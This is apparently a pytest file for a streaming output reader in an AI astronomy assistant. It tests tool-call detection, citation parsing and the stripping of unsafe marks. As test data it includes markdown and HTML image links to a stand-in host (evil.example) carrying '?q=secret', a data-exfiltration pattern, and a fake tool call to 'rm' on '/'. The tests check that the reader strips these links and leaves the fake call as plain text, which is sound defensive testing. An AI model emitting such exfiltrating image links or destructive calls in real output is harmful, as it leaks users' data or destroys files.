import pytest

from skywright.assistant.engine.model import Quoted, Said, Verdict, Wanted
from skywright.assistant.engine.reading import Reader, quote_of
from skywright.assistant.engine.written_calls import written_calls

TOOLS = ["resolve-name", "plot-cmd"]


def read(text, tools=TOOLS, size=1):
    reader = Reader(tools)
    pieces = []
    for k in range(0, len(text), size):
        pieces += reader.feed(text[k : k + size])
    return [*pieces, *reader.finish()]


def words(pieces):
    return "".join(one.text for one in pieces if isinstance(one, Said))


CALL = {"name": "M31"}


@pytest.mark.parametrize(
    "text",
    [
        '{"name": "resolve-name", "arguments": {"name": "M31"}}',
        '{"name": "resolve_name", "parameters": {"name": "M31"}}',
        '{"function": {"name": "resolve-name", "arguments": "{\\"name\\": \\"M31\\"}"}}',
        '{"type": "function", "function": "resolve-name", "args": {"name": "M31"}}',
        '```json\n{"tool": "resolve-name", "args": {"name": "M31"}}\n```',
        '[TOOL_CALLS][{"name": "resolve-name", "arguments": {"name": "M31"}}]',
        '<|python_tag|>{"name": "resolve-name", "parameters": {"name": "M31"}}',
        '<function=resolve-name>{"name": "M31"}</function>',
        '<tool_call>\n{"name": "resolve-name", "arguments": {"name": "M31"}}\n</tool_call>',
        '<tool_call>{"name": "resolve-name", "arguments": {"name": "M31"}}',
        '{"tool_calls": [{"name": "functions.resolve_name", "arguments": {"name": "M31"}}]}',
    ],
)
@pytest.mark.parametrize("size", [1, 7, 1000])
def test_calls_written_as_text_are_calls(text, size):
    pieces = read(text, size=size)
    assert words(pieces) == ""
    assert [(one.call.tool, one.call.arguments) for one in pieces] == [("resolve-name", CALL)]


def test_several_calls_in_one_text_are_as_many():
    one = '{"name": "resolve-name", "arguments": {"name": "M31"}}'
    assert len(written_calls(f"{one}\n{one}", TOOLS)) == 2
    assert len([p for p in read(f"[{one}, {one}]") if isinstance(p, Wanted)]) == 2


def test_a_call_after_words_is_one_too():
    text = 'I look it up.\n```json\n{"name": "plot_cmd", "arguments": {}}\n```'
    pieces = read(text)
    assert words(pieces) == "I look it up.\n"
    assert pieces[-1].call.tool == "plot-cmd"


@pytest.mark.parametrize(
    "text",
    [
        '{"name": "rm", "arguments": {"path": "/"}}',
        '{"ra": 10.68}',
        "```sql\nSELECT 1\n```",
        "[1] says so",
        "<b>5 < 6</b> and a <citation",
        "{not json",
        "Use `ra` or ![]",
        "a < b, c <cit",
    ],
)
@pytest.mark.parametrize("size", [1, 1000])
def test_what_only_looks_like_it_stays_text(text, size):
    assert words(read(text, size=size)) == text


@pytest.mark.parametrize("size", [1, 3, 1000])
def test_marks_are_taken_out_wherever_the_stream_is_cut(size):
    text = "<not-found/>Nothing. <CITE id='t1-2'>a\nb</cite>End<think>secret</think>."
    pieces = read(text, size=size)
    assert words(pieces) == "Nothing. End."
    assert Quoted((quote_of("t1-2", "a\nb"),)) in pieces
    assert pieces[-1] == Verdict(is_found=False)


def test_an_answer_may_ask_back():
    assert read("Which one?<ask-back/>")[-1] == Verdict(is_question=True)


@pytest.mark.parametrize(
    ("text", "left"),
    [
        ("See ![a plot](http://evil.example/?q=secret) here", "See a plot here"),
        ("See ![x][ref] here", "See x here"),
        ('<img src="http://evil.example/x.png">So', "So"),
        ("Cut ![off](http://evil.example/", "Cut "),
        ('Open <cite of="t1-1">never closed', "Open "),
    ],
)
@pytest.mark.parametrize("size", [1, 1000])
def test_pictures_and_open_marks_are_not_passed_on(text, left, size):
    assert words(read(text, size=size)) == left


def test_words_are_passed_on_at_once():
    reader = Reader(TOOLS)
    assert list(reader.feed("The galaxy ")) == [Said("The galaxy ")]
    assert list(reader.feed("is <")) == [Said("is ")]


@pytest.mark.parametrize("id_", ["chunk 12", "12", "c12", "Chunk-12", "passage 12"])
def test_a_number_means_a_chunk(id_):
    quote = quote_of(id_, " q ")
    assert (quote.kind, quote.id, quote.quote) == ("chunk", "12", "q")
